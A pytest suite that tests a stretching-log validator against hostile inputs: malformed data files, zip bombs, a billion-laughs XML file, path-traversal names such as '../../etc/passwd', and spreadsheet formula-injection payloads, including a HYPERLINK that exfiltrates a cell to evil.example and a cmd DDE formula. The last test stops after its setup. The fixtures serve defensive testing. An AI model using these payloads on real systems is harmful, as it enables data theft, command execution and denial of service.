"""Hostile inputs: every file either loads (maybe with rejected rows) or fails with one line.

The corpus lives in ``tests/hostile/`` (small files, written byte for byte); large or binary
cases (a 100 k-character note, a 1 MB log, Excel workbooks, Parquet, zip bombs) are generated in
``tmp_path``. For every input that loads, the data rows were counted by hand and
``len(valid) + len(rejected)`` must equal that count: nothing is silently dropped. Every input
runs through the Python API and through ``backanalytics validate`` (exit 0 / 1 / 2, no traceback,
an exit-2 message of exactly one line starting with ``error:``), under a time limit.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import re
import signal
import socket
import threading
import time
import zipfile
from collections.abc import Iterator
from pathlib import Path

import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from openpyxl import Workbook
from typer.testing import CliRunner

from backanalytics.cli import app
from backanalytics.io import LogReadError, read_table
from backanalytics.schema import validate

HOSTILE = Path(__file__).parent / "hostile"
runner = CliRunner()
#: Seconds any single input may take (the slowest, a 1 MB log, takes well under one).
TIME_LIMIT = 30

# name -> (data rows counted by hand, source lines that must be rejected) for inputs that load,
# or (None, words the one-line error must contain) for inputs that cannot be used.
CORPUS: dict[str, tuple[int | None, list[int] | str]] = {
    "empty.csv": (None, "empty"),
    "header_only.csv": (0, []),  # a log not yet filled in: 0 rows, nothing wrong (like a blank template)
    "no_header.csv": (None, "missing required column"),
    "only_whitespace.csv": (None, "empty"),
    "missing_required_column.csv": (None, "missing required column date"),
    "binary_garbage.csv": (None, "binary"),
    "binary_no_nul.csv": (None, "binary"),
    "unterminated_quote.csv": (None, "not a readable CSV"),
    "log.dat": (None, "unknown format"),
    "not_records.json": (None, "list of records"),
    "text_named.xlsx": (None, "not a readable Excel workbook"),
    "text_named.parquet": (None, "not a readable Parquet file"),
    "semicolon_decimal_comma.csv": (3, []),
    "utf8_bom.csv": (2, []),
    "utf16_bom.csv": (2, []),
    "utf16le_no_bom.csv": (1, []),
    "latin1_names.csv": (2, []),
    "windows_crlf.csv": (2, []),
    "old_mac_cr.csv": (2, []),
    "tab_separated.tsv": (1, []),
    # records span lines 2-3, 4-5 and 6; the last has pain 11
    "quoted_newlines.csv": (3, [6]),
    # NaN, nan, n/a, N/A, -, none and empty are "no value"; inf, -inf, Infinity, 1e400, 0x10,
    # five, 7.5.1 and --3 are rejected; 7,5 is a decimal comma
    "numbers_nan_inf.csv": (16, [4, 5, 6, 12, 13, 14, 16, 17]),
    # ten accepted spellings (ISO, dotted, month names, 2026/01/05, 20260105, 13/01/2026 day
    # first, the Excel serial 46027); rejected: 2026-02-30, month 13, hour 25, "yesterday",
    # 0000-00-00, ISO week, 9999-12-31 and 2999 (future), 1899 (before 1990)
    "dates_many_formats.csv": (19, [11, 12, 13, 14, 15, 16, 18, 19, 20]),
    # Z, -05:00, +14:00, fractions, +0530, +01 accepted; +99:99 and "PST" rejected
    "dates_time_zones.csv": (8, [8, 9]),
    "future_dates.csv": (3, [2, 4]),
    # client_id and date twice, and the two copies disagree (anna / ben, 01-05 / 01-06)
    "duplicate_columns.csv": (1, [2]),
    "repeated_header_row.csv": (3, [3]),
    # "hello, world" unquoted: one field too many; trailing empty fields ("ok,,") are harmless
    "extra_fields.csv": (3, [2]),
    "extra_fields_first_row.csv": (2, [2]),
    "extra_and_missing_columns.csv": (2, []),
    "short_rows.csv": (3, [2, 4]),
    # blank lines are not rows; ",,,," is a row of empty cells (rejected, not dropped)
    "blank_lines_between.csv": (3, [6]),
    "scores_out_of_range.csv": (4, [2, 3, 4, 5]),
    "nul_after_header.csv": (301, []),
    "mixed_records.json": (3, [1, 2, 3]),
}


@contextlib.contextmanager
def time_limit(seconds: int = TIME_LIMIT) -> Iterator[None]:
    """Fail (instead of hanging) when the block runs longer than ``seconds``."""
    start = time.monotonic()
    use_alarm = threading.current_thread() is threading.main_thread() and hasattr(signal, "SIGALRM")
    if use_alarm:
        def on_alarm(signum, frame):
            raise TimeoutError(f"took longer than {seconds} s")
        previous = signal.signal(signal.SIGALRM, on_alarm)
        signal.alarm(seconds)
    try:
        yield
    finally:
        if use_alarm:
            signal.alarm(0)
            signal.signal(signal.SIGALRM, previous)
    assert time.monotonic() - start < seconds


def check_api(path: Path, rows: int | None, expected: list[int] | str) -> None:
    """The Python API: a report whose rows add up, or a one-line LogReadError naming the file."""
    with time_limit():
        if rows is None:
            with pytest.raises(LogReadError) as info:
                validate(path)
            message = str(info.value)
            assert "\n" not in message and len(message) < 400, message
            assert path.name in message and expected in message, message
            return
        report = validate(path)
    assert report.rows_read == rows
    assert len(report.valid) + len(report.rejected) == rows
    assert sorted(report.rejected["source_line"]) == expected
    assert set(report.failures["source_line"]) == set(expected)
    assert report.rejected["problems"].notna().all()


def check_cli(path: Path, rows: int | None) -> None:
    """``backanalytics validate``: exit 0 / 1 / 2, never a traceback, exit 2 in one line."""
    with time_limit():
        result = runner.invoke(app, ["validate", str(path)])
    assert "Traceback" not in result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
    if rows is None:
        assert result.exit_code == 2, result.output
        lines = [line for line in result.output.splitlines() if line.strip()]
        assert len(lines) == 1 and lines[0].startswith("error:"), result.output
    else:
        assert result.exit_code in (0, 1), result.output
        assert f"{rows} rows read" in result.output


def test_corpus_lists_every_hostile_file():
    assert sorted(p.name for p in HOSTILE.iterdir()) == sorted(CORPUS)


@pytest.mark.parametrize("name", sorted(CORPUS))
def test_hostile_file_loads_or_fails_in_one_line(name):
    rows, expected = CORPUS[name]
    check_api(HOSTILE / name, rows, expected)


@pytest.mark.parametrize("name", sorted(CORPUS))
def test_hostile_file_through_the_cli(name):
    check_cli(HOSTILE / name, CORPUS[name][0])


def test_latin1_and_utf16_names_are_decoded():
    assert set(validate(HOSTILE / "latin1_names.csv").valid["client_id"]) == {"José", "Zoë"}
    assert set(validate(HOSTILE / "utf16_bom.csv").valid["client_id"]) == {"José", "Zoë"}


def test_quoted_newlines_stay_inside_the_note():
    notes = validate(HOSTILE / "quoted_newlines.csv").valid["notes"].tolist()
    assert notes == ["first line\nsecond line, with comma", 'say "hi"\nthere']


def test_decimal_commas_are_read():
    valid = validate(HOSTILE / "semicolon_decimal_comma.csv").valid
    assert valid["pain"].tolist() == [7.5, 6.0, 4.0]
    assert valid["flexibility"].tolist()[:2] == [3.0, 3.5]


def test_a_row_with_an_unquoted_comma_is_rejected_not_shifted():
    report = validate(HOSTILE / "extra_fields_first_row.csv")
    assert report.valid["client_id"].tolist() == ["ben"]
    assert "more fields than the header" in report.failures.loc[0, "rule"]


def test_missing_date_is_reported_as_a_readable_rule():
    rules = validate(HOSTILE / "short_rows.csv").failures["rule"].tolist()
    assert "date is required" in rules
    assert "not_nullable" not in rules


# ------------------------------------------------------------------ generated large / binary


def write_generated(kind: str, folder: Path) -> tuple[Path, int | None, list[int] | str]:
    """Build one generated hostile input; return (path, rows, expected) like :data:`CORPUS`."""
    header = "client_id,date,stretch,pain,notes\n"
    if kind == "huge_note":
        path = folder / "huge_note.csv"
        path.write_text(header + "anna,2026-01-05,Cobra,5," + "x" * 100_000 + "\nanna,2026-01-06,Cobra,4,\n")
        return path, 2, []
    if kind == "one_megabyte_log":
        # > 1 MB takes the fast (pyarrow) reader; rows 1000 and 20000 are bad
        lines = [f"c{i % 7},2026-01-{1 + i % 28:02d},Cobra,{i % 10},note {i}" for i in range(40_000)]
        lines[999] = "c1,2026-01-05,Cobra,12,too much pain"
        lines[19_999] = "c1,not a date,Cobra,3,"
        path = folder / "big.csv"
        path.write_text(header + "\n".join(lines) + "\n")
        return path, 40_000, [1001, 20001]
    if kind == "random_bytes":
        path = folder / "random.csv"
        path.write_bytes(np.random.default_rng(1).integers(0, 256, 65_536, dtype=np.uint8).tobytes())
        return path, None, "binary"
    if kind == "excel_sheets_and_merged_cells":
        wb = Workbook()
        ws = wb.active
        ws.title = "read me"
        ws.append(["This workbook holds the stretching log"])
        log = wb.create_sheet("log")
        log.append(["client_id", "date", "stretch", "pain"])
        log.append(["anna", "2026-01-05", "Cobra", 5])
        log.append(["anna", "2026-01-06", "Cobra", 4])
        log.append(["ben", "2026-01-06", "Sphinx", "7,5"])
        log.merge_cells("A2:A3")  # only the top-left cell keeps "anna"
        more = wb.create_sheet("more")
        more.append(["Patient", "Day", "Exercise", "NPRS"])  # other headers, same meaning
        more.append(["carla", "2026-01-07", "cobra", 3])
        path = folder / "book.xlsx"
        wb.save(path)
        return path, 4, [3]
    if kind == "excel_without_log":
        wb = Workbook()
        wb.active.append(["nothing", "here"])
        wb.active.append([1, 2])
        path = folder / "other.xlsx"
        wb.save(path)
        return path, None, "missing required column"
    if kind == "truncated_parquet":
        good = folder / "good.parquet"
        pd.DataFrame({"client_id": ["a"] * 50, "date": ["2026-01-05"] * 50, "stretch": ["Cobra"] * 50}
                     ).to_parquet(good)
        path = folder / "truncated.parquet"
        path.write_bytes(good.read_bytes()[: good.stat().st_size // 2])
        return path, None, "not a readable Parquet file"
    if kind == "parquet_odd_types":
        import datetime as dt

        table = pa.table({
            "client_id": ["a", "b", "c", "d"],
            "date": pa.array([dt.date(9999, 12, 31), dt.date(2026, 1, 5), None, dt.date(1900, 1, 1)]),
            "stretch": ["Cobra", "Cobra", "Cobra", "Cobra"],
            "pain": [1.0, float("inf"), 3.0, float("nan")],
            "reps": [1e20, 2.0, None, 3.0],
        })
        path = folder / "odd.parquet"
        pq.write_table(table, path)
        return path, 4, [1, 2, 3, 4]
    if kind == "deep_json":
        path = folder / "deep.json"
        path.write_text("[" * 50_000 + "]" * 50_000)
        return path, None, "nested too deeply"
    return write_audit_case(kind, folder)


#: Beyond the csv module's default field limit (131,072 characters).
LONG = 200_000


def write_audit_case(kind: str, folder: Path) -> tuple[Path, int | None, list[int] | str]:
    """Inputs from the reliability audit: very wide or long CSVs, odd Parquet, Excel and JSON."""
    header = "client_id,date,stretch,pain,notes\n"
    if kind == "ten_thousand_columns":
        names = ["client_id", "date", "stretch", *(f"extra_{i}" for i in range(9_997))]
        rows = [",".join(["anna", f"2026-01-0{d}", "Cobra", *["1"] * 9_997]) for d in (5, 6, 7)]
        path = folder / "wide.csv"
        path.write_text(",".join(names) + "\n" + "\n".join(rows) + "\n")
        return path, 3, []
    if kind == "long_note_with_quoted_newline":
        # a blank line and a quoted newline make the reader count lines with the csv module
        path = folder / "long_note.csv"
        path.write_text(header + f'anna,2026-01-05,Cobra,5,"{"x" * LONG}\nend"\n\nanna,2026-01-06,Cobra,11,\n')
        return path, 2, [5]
    if kind == "long_note_with_extra_field":
        path = folder / "long_extra.csv"
        path.write_text(header + f"anna,2026-01-05,Cobra,5,{'x' * LONG},oops\nanna,2026-01-06,Cobra,4,\n")
        return path, 2, [2]
    if kind == "long_header_field_over_one_megabyte":
        path = folder / "long_header.csv"
        path.write_text(f'client_id,date,stretch,"{"h" * LONG}"\n'
                        + "".join(f"c{i},2026-01-05,Cobra,x\n" for i in range(60_000)))
        assert path.stat().st_size > 1 << 20
        return path, 60_000, []
    if kind == "ten_megabyte_single_line":
        path = folder / "one_line.csv"
        path.write_text("x" * 10_000_000)
        return path, None, "a log line may be at most 8 MB"  # MAX_LINE_BYTES
    if kind == "parquet_bytes_invalid_utf8":
        path = folder / "bytes.parquet"
        pq.write_table(pa.table({"client_id": pa.array([b"ana\xff", b"ben"], pa.binary()),
                                 "date": ["2026-01-05", "2026-01-05"], "stretch": ["Cobra", "Cobra"],
                                 "notes": pa.array([b"\xfe\xff", b"fine"], pa.binary())}), path)
        return path, 2, []
    if kind == "parquet_list_and_struct_ids":
        path = folder / "nested.parquet"
        pq.write_table(pa.table({"client_id": pa.array([["a", "b"], ["c"], None]),
                                 "date": ["2026-01-05"] * 3, "stretch": ["Cobra"] * 3,
                                 "pain": pa.array([{"x": 1}, None, {"x": 2}])}), path)
        return path, 3, [1, 2, 3]
    return write_workbook_or_json_case(kind, folder)


def write_workbook_or_json_case(kind: str, folder: Path) -> tuple[Path, int | None, list[int] | str]:
    """Audit inputs in Excel and JSON form."""
    if kind == "excel_title_above_header":
        wb = Workbook()
        ws = wb.active
        ws.title = "log"
        ws.append(["Stretching log, spring 2026"])
        ws.append([])
        ws.append(["Client", "Date", "Stretch", "Pain"])  # header on row 3
        ws.append(["anna", "2026-01-05", "Cobra", 5])
        ws.append(["anna", "2026-01-06", "Cobra", 11])  # row 5: rejected
        other = wb.create_sheet("more")
        other.append(["client_id", "date", "stretch"])
        other.append(["ben", "2026-01-05", "Sphinx"])
        path = folder / "titled.xlsx"
        wb.save(path)
        return path, 3, [5]
    if kind == "excel_sheet_naming_no_client":
        wb = Workbook()
        wb.active.append(["client_id", "date", "stretch"])
        wb.active.append(["anna", "2026-01-05", "Cobra"])
        feb = wb.create_sheet("feb")
        feb.append(["who", "day", "stretch", "pain"])  # "who" is not a client alias
        feb.append(["ben", "2026-02-05", "Cobra", 3])
        path = folder / "misnamed.xlsx"
        wb.save(path)
        return path, None, "sheet 'feb' (2 rows) names date, pain, stretch"
    if kind == "zip_named_xlsx":
        path = folder / "archive.xlsx"
        with zipfile.ZipFile(path, "w") as z:
            z.writestr("notes.txt", "hello")
            z.writestr("data/random.bin", bytes(range(256)))
        return path, None, "not a readable Excel workbook (a zip archive without a workbook inside)"
    if kind == "json_several_lists":
        path = folder / "months.json"
        record = {"client_id": "anna", "stretch": "Cobra"}
        path.write_text(json.dumps({"exported": "2026-03-01", "jan": [
            {**record, "date": "2026-01-05"}, {**record, "date": "2026-01-06", "pain": 11}],
            "feb": [{**record, "date": "2026-02-05"}]}))
        return path, 3, [2]
    if kind == "json_ambiguous_lists":
        path = folder / "split.json"
        path.write_text(json.dumps({"columns": ["client_id", "date"], "data": [["anna", "2026-01-05"]]}))
        return path, None, "ambiguous"
    if kind == "reserved_column_names":
        path = folder / "reserved.csv"
        path.write_text("client_id,date,stretch,source_line,_extra_fields,sheet\n"
                        "anna,2026-01-05,Cobra,99,zz,log\nanna,2026-01-06,Cobra,98,,log\n")
        return path, 2, []
    raise AssertionError(kind)


GENERATED = ["huge_note", "one_megabyte_log", "random_bytes", "excel_sheets_and_merged_cells",
             "excel_without_log", "truncated_parquet", "parquet_odd_types", "deep_json",
             "ten_thousand_columns", "long_note_with_quoted_newline", "long_note_with_extra_field",
             "long_header_field_over_one_megabyte", "ten_megabyte_single_line", "parquet_bytes_invalid_utf8",
             "parquet_list_and_struct_ids", "excel_title_above_header", "excel_sheet_naming_no_client",
             "zip_named_xlsx", "json_several_lists", "json_ambiguous_lists", "reserved_column_names"]


@pytest.mark.parametrize("kind", GENERATED)
def test_generated_input_loads_or_fails_in_one_line(kind, tmp_path):
    path, rows, expected = write_generated(kind, tmp_path)
    check_api(path, rows, expected)


@pytest.mark.parametrize("kind", GENERATED)
def test_generated_input_through_the_cli(kind, tmp_path):
    path, rows, _ = write_generated(kind, tmp_path)
    check_cli(path, rows)


def test_huge_note_is_kept_whole(tmp_path):
    path, _, _ = write_generated("huge_note", tmp_path)
    assert len(validate(path).valid.loc[0, "notes"]) == 100_000


def test_excel_sheets_with_different_headers_are_aligned(tmp_path):
    path, _, _ = write_generated("excel_sheets_and_merged_cells", tmp_path)
    report = validate(path)
    assert sorted(report.valid["client_id"]) == ["anna", "ben", "carla"]
    assert report.rejected["sheet"].tolist() == ["log"]  # the merged-away client cell


def test_excel_sheets_do_not_warn_about_their_own_sheet_column(tmp_path):
    path, _, _ = write_generated("excel_sheets_and_merged_cells", tmp_path)
    warnings = validate(path).warnings
    ignored = warnings[warnings["warning"].str.contains("not in the contract")]
    assert ignored.empty, ignored
    # the "read me" sheet is left out, said so with its row count
    skipped = warnings[warnings["column"] == "sheet"]
    assert skipped["value"].tolist() == ["read me"]
    assert "1 non-empty row not read" in skipped["warning"].iloc[0]


def test_excel_header_below_a_title_row_keeps_sheet_row_numbers(tmp_path):
    path, _, _ = write_generated("excel_title_above_header", tmp_path)
    report = validate(path)
    assert sorted(report.valid["client_id"]) == ["anna", "ben"]
    assert report.rejected[["sheet", "source_line"]].values.tolist() == [["log", 5]]


def test_excel_header_row_is_found_with_the_user_mapping(tmp_path):
    path, _, _ = write_generated("excel_sheet_naming_no_client", tmp_path)  # "who" on sheet "feb"
    report = validate(path, mapping={"who": "client_id"})
    assert sorted(report.valid["client_id"]) == ["anna", "ben"]
    assert report.valid["pain"].dropna().tolist() == [3.0]


def test_long_fields_are_kept_whole(tmp_path):
    path, _, _ = write_generated("long_note_with_quoted_newline", tmp_path)
    assert validate(path).valid.loc[0, "notes"] == "x" * LONG + "\nend"
    path, _, _ = write_generated("long_note_with_extra_field", tmp_path)
    report = validate(path)
    assert report.rejected.loc[0, "_extra_fields"] == "oops"
    assert len(report.rejected.loc[0, "notes"]) == LONG


def test_csv_field_limit_is_restored(tmp_path):
    before = csv.field_size_limit()
    path, _, _ = write_generated("long_note_with_extra_field", tmp_path)
    validate(path)
    assert csv.field_size_limit() == before


def test_parquet_bytes_are_decoded_with_replacement(tmp_path):
    path, _, _ = write_generated("parquet_bytes_invalid_utf8", tmp_path)
    report = validate(path)
    assert report.valid["client_id"].tolist() == ["ana\ufffd", "ben"]
    assert report.valid["notes"].tolist() == ["\ufffd\ufffd", "fine"]
    assert report.warnings["warning"].str.contains("not valid UTF-8").sum() == 2


def test_parquet_lists_and_records_are_rejected_per_cell(tmp_path):
    path, _, _ = write_generated("parquet_list_and_struct_ids", tmp_path)
    failures = validate(path).failures
    assert failures[["source_line", "column"]].values.tolist() == [
        [1, "client_id"], [1, "pain"], [2, "client_id"], [3, "client_id"], [3, "pain"]]
    assert failures["rule"].tolist()[:2] == ["client_id must be a single value, not a list or a record",
                                             "pain must be a single value, not a list or a record"]
    assert failures["rule"].iloc[3] == "client_id is required"


def test_json_object_with_several_lists_reads_them_all(tmp_path):
    path, _, _ = write_generated("json_several_lists", tmp_path)
    report = validate(path)
    assert report.valid["date"].dt.strftime("%m-%d").tolist() == ["01-05", "02-05"]
    assert report.rejected[["record_list", "source_line"]].values.tolist() == [["jan", 2]]


def test_reserved_column_names_are_kept_as_input_columns(tmp_path):
    path, _, _ = write_generated("reserved_column_names", tmp_path)
    report = validate(path)
    assert report.ok and len(report.valid) == 2
    ignored = set(report.warnings["column"])
    assert {"source_line (input)", "_extra_fields (input)", "sheet (input)"} <= ignored
    raw = read_table(path)
    assert raw["source_line"].tolist() == [2, 3] and raw["source_line (input)"].tolist() == ["99", "98"]


def test_workbook_that_would_unpack_too_far_is_refused(tmp_path, monkeypatch):
    from backanalytics.io import read_excel as ba_io

    path, _, _ = write_generated("excel_sheets_and_merged_cells", tmp_path)
    monkeypatch.setattr(ba_io, "MAX_XLSX_BYTES", 1000)
    with pytest.raises(LogReadError, match="zip bomb"):
        validate(path)


# ------------------------------------------------------------------ zip bombs for the importers

LOOP_HABITS = ("Position,Name,Question,Description,NumRepetitions,Interval,Color\n"
               "001,Cat Cow,,,1,1,#FF8F00\n")


@pytest.fixture(scope="module")
def loop_zip_bomb(tmp_path_factory) -> Path:
    """210 MB of newlines deflated to ~200 kB: over the Loop importer's 200 MB limit."""
    path = tmp_path_factory.mktemp("bombs") / "Loop Habits CSV bomb.zip"
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr("Habits.csv", LOOP_HABITS)
        with z.open("001 Cat Cow/Checkmarks.csv", "w", force_zip64=True) as fh:
            chunk = b"\n" * (1 << 20)
            for _ in range(210):
                fh.write(chunk)
    return path


def lying_zip(path: Path, member: str, payload: bytes, declared: int, prefix: dict[str, str]) -> Path:
    """A zip whose headers declare ``declared`` bytes for ``member`` while it inflates to more."""
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as z:
        for name, text in prefix.items():
            z.writestr(name, text)
        z.writestr(member, payload)
    data = bytearray(path.read_bytes())
    real = len(payload).to_bytes(4, "little")
    fake = declared.to_bytes(4, "little")
    name = member.encode()
    # Patch the uncompressed size in the local header (offset 22) and central directory (24).
    for signature, size_at, name_at in ((b"PK\x03\x04", 22, 30), (b"PK\x01\x02", 24, 46)):
        start = 0
        while (start := data.find(signature, start)) != -1:
            if data[start + name_at:start + name_at + len(name)] == name:
                assert data[start + size_at:start + size_at + 4] == real
                data[start + size_at:start + size_at + 4] = fake
            start += 4
    path.write_bytes(bytes(data))
    return path


def test_loop_zip_bomb_is_refused_before_inflating(loop_zip_bomb):
    from backanalytics.importers.loop import import_loop

    with time_limit(5), pytest.raises(ValueError, match="unsafe zip") as info:
        import_loop(loop_zip_bomb)
    assert "\n" not in str(info.value)


def test_loop_zip_bomb_through_the_cli(loop_zip_bomb):
    with time_limit(5):
        result = runner.invoke(app, ["import", "loop", str(loop_zip_bomb)])
    assert result.exit_code == 2, result.output
    lines = [line for line in result.output.splitlines() if line.strip()]
    assert len(lines) == 1 and lines[0].startswith("error:") and "unsafe zip" in lines[0]


def test_loop_zip_whose_headers_lie_is_refused(tmp_path):
    from backanalytics.importers.loop import import_loop

    path = lying_zip(tmp_path / "lie.zip", "001 Cat Cow/Checkmarks.csv", b"2024-01-01,2\n" * 400_000,
                     declared=100, prefix={"Habits.csv": LOOP_HABITS})
    with time_limit(5), pytest.raises(ValueError) as info:
        import_loop(path)
    assert "\n" not in str(info.value)


def test_loop_zip_with_too_many_members_is_refused(tmp_path):
    from backanalytics.importers.loop import import_loop

    path = tmp_path / "many.zip"
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("Habits.csv", LOOP_HABITS)
        for i in range(50):
            z.writestr(f"junk/{i}.txt", "")
    with pytest.raises(ValueError, match="members"):
        import_loop(path, max_members=20)


@pytest.mark.parametrize("member", ["../evil/Checkmarks.csv", "/etc/Checkmarks.csv", "C:/x/Checkmarks.csv"])
def test_loop_zip_with_escaping_member_paths_is_refused(tmp_path, member):
    from backanalytics.importers.loop import import_loop

    path = tmp_path / "escape.zip"
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("Habits.csv", LOOP_HABITS)
        z.writestr(member, "2024-01-01,2\n")
    with pytest.raises(ValueError, match="unsafe zip"):
        import_loop(path)


def test_apple_health_zip_bomb_is_refused(tmp_path):
    from backanalytics.importers.apple_health import import_apple_health

    path = tmp_path / "export.zip"
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr("apple_health_export/export.xml", b"<HealthData>" + b" " * (20 << 20) + b"</HealthData>")
    with time_limit(5), pytest.raises(ValueError, match="zip bomb") as info:
        import_apple_health(path)
    assert "\n" not in str(info.value)
    result = runner.invoke(app, ["import", "apple-health", str(path)])
    assert result.exit_code == 2
    lines = [line for line in result.output.splitlines() if line.strip()]
    assert len(lines) == 1 and lines[0].startswith("error:") and "zip bomb" in lines[0]


def test_apple_health_billion_laughs_is_refused(tmp_path):
    from backanalytics.importers.apple_health import import_apple_health

    lol = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
           + "".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">'
                     for i in range(1, 10))
           + ']><HealthData><Workout workoutActivityType="HKWorkoutActivityTypeYoga" sourceName="&lol9;" '
           'duration="5" durationUnit="min" startDate="2024-03-10 23:30:00 -0700" '
           'endDate="2024-03-10 23:35:00 -0700"/></HealthData>')
    path = tmp_path / "export.xml"
    path.write_text(lol)
    with time_limit(5), pytest.raises(ValueError) as info:
        import_apple_health(path)
    assert "\n" not in str(info.value)


@pytest.mark.parametrize("kind", ["loop", "apple-health"])
def test_importers_given_garbage_exit_2_in_one_line(kind, tmp_path):
    path = tmp_path / "garbage.zip"
    path.write_bytes(bytes(range(256)) * 8)
    result = runner.invoke(app, ["import", kind, str(path)])
    assert "Traceback" not in result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
    assert result.exit_code == 2, result.output
    lines = [line for line in result.output.splitlines() if line.strip()]
    assert len(lines) == 1 and lines[0].startswith("error:")


def test_fhir_importer_given_garbage_says_why_nothing_was_imported(tmp_path):
    # The FHIR importer skips unreadable files record by record instead of failing the run.
    path = tmp_path / "garbage.json"
    path.write_bytes(bytes(range(256)) * 8)
    result = runner.invoke(app, ["import", "fhir", str(path)])
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
    assert result.exit_code in (0, 2)
    assert "not UTF-8" in result.output and "nothing to import" in result.output


def test_json_records_round_trip_counts(tmp_path):
    records = [{"client_id": "a", "date": "2026-01-05", "stretch": "Cobra"}] * 3 + [{"client_id": "a"}]
    path = tmp_path / "log.json"
    path.write_text(json.dumps(records))
    report = validate(path)
    assert (report.rows_read, len(report.valid), len(report.rejected)) == (4, 3, 1)


# ------------------------------------------------------------------ output safety

FORMULA_PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+SUM(1,1)", "-2+3", "@SUM(A1)",
                    "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0", "x\r=1+1"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def csv_cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_rejected_rows_file_neutralises_formulas(tmp_path):
    # JSON keeps leading tabs and carriage returns exactly; every row below is rejected (pain).
    records = [{"client_id": p, "date": "2026-01-05", "stretch": p, "pain": p, "notes": p}
               for p in FORMULA_PAYLOADS]
    records.append({"=evil_header": "=1", "client_id": "anna", "date": "2026-01-05", "stretch": "Cobra",
                    "pain": "11", "notes": "-1"})
    path = tmp_path / "log.json"
    path.write_text(json.dumps(records))
    out = tmp_path / "rejected.csv"
    result = runner.invoke(app, ["validate", str(path), "--rejected", str(out)])
    assert result.exit_code == 1, result.output
    rows = csv_cells(out.read_bytes().decode("utf-8"))
    assert len(rows) == 1 + len(records)
    cells = [cell for row in rows for cell in row]
    dangerous = [cell for cell in cells if cell.startswith(FORMULA_START)]
    assert dangerous == []
    # a bare carriage return would be read as a row break (starting a row with "=1+1"): it is
    # written as a line feed, which the CSV writer quotes
    for payload in FORMULA_PAYLOADS:
        expected = ("'" + payload if payload.startswith(FORMULA_START) else payload).replace("\r", "\n")
        assert expected in cells
    assert "'=evil_header" in rows[0]


def test_summary_csv_neutralises_client_ids(tmp_path):
    ids = [p for p in FORMULA_PAYLOADS if p.startswith(("=", "+", "-", "@"))]  # ids are trimmed
    path = tmp_path / "log.csv"
    with path.open("w", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["client_id", "date", "stretch", "pain"])
        for client in ids:
            writer.writerow([client, "2026-01-05", "Cobra", "3"])
            writer.writerow([client, "2026-01-06", "Cobra", "2"])
    result = runner.invoke(app, ["summary", str(path), "--format", "csv", "--all-columns"])
    assert result.exit_code == 0, result.output
    rows = csv_cells(result.output)
    header, body = rows[0], rows[1:]
    assert sorted(row[header.index("client_id")] for row in body) == sorted("'" + i for i in ids)
    for cell in (cell for row in rows for cell in row):
        if cell.startswith(FORMULA_START):
            float(cell)  # only a plain negative number may start with "-"


PATH_PAYLOADS = ["../../etc/passwd", "..", ".", "/abs", "/", "a\\b", "..\\..\\win.ini", "C:\\x", "con", "NUL",
                 "com1", "\x00", "a\x00b", "x" * 10_000, "José", "日本語", "🙂", "Anna", "anna", "", " ",
                 "a/../../b", "~root", "$HOME", "name.html", "-rf", "--", "\n"]


@pytest.mark.parametrize("client", PATH_PAYLOADS)
def test_safe_filename_cannot_leave_its_folder(client, tmp_path):
    from backanalytics.report.safety import inside, safe_filename

    name = safe_filename(client, ".html")
    assert re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9_-]*\.html", name), name
    assert len(name) <= 80
    stem = name.removesuffix(".html")
    assert stem.upper() not in {"CON", "PRN", "AUX", "NUL", "COM1", "LPT1"}
    target = inside(tmp_path, name)
    assert target.parent == tmp_path.resolve()


def test_safe_filenames_stay_distinct_even_ignoring_case():
    from backanalytics.report.safety import safe_filename

    names = [safe_filename(c, ".html").lower() for c in PATH_PAYLOADS]
    assert len(set(names)) == len(PATH_PAYLOADS)


@pytest.mark.parametrize("name", ["../x.html", "../../etc/passwd", "/etc/passwd", "..", "a/../../b", "."])
def test_inside_refuses_paths_outside_the_folder(name, tmp_path):
    from backanalytics.report.safety import inside

    with pytest.raises(ValueError, match="refusing to write outside"):
        inside(tmp_path / "reports", name)


# ------------------------------------------------------------------ privacy: nothing leaves the machine


@pytest.fixture
def no_network(monkeypatch):
    """Make any attempt to open a connection or resolve a name fail loudly."""
    attempts: list[tuple] = []

    def refuse(*args, **kwargs):
        attempts.append(args)
        raise OSError("network access is blocked in this test")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket.socket, "connect_ex", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    return attempts


def test_analysis_runs_without_the_network(no_network, sample_path):
    from backanalytics.metrics.consistency import consistency
    from backanalytics.metrics.flags import flags
    from backanalytics.metrics.outcomes import outcomes

    report = validate(sample_path)
    assert report.ok
    assert len(consistency(report.valid)) == 9
    assert len(outcomes(report.valid)) == 9
    assert not flags(report.valid).empty
    assert no_network == []


def test_cli_runs_without_the_network(no_network, sample_path):
    assert runner.invoke(app, ["validate", str(sample_path)]).exit_code == 0
    result = runner.invoke(app, ["summary", str(sample_path), "--format", "csv"])
    assert result.exit_code == 0 and "anna" in result.output
    assert no_network == []


def test_console_entry_point_turns_an_unexpected_crash_into_one_line(monkeypatch, capsys, sample_path):
    from backanalytics import cli

    def crash(*args, **kwargs):
        raise RuntimeError("boom\nsecond line")

    monkeypatch.setattr("backanalytics.validation.validate", crash)  # what read_or_exit calls
    monkeypatch.setattr("sys.argv", ["backanalytics", "validate", str(sample_path)])
    monkeypatch.delenv("BACKANALYTICS_DEBUG", raising=False)
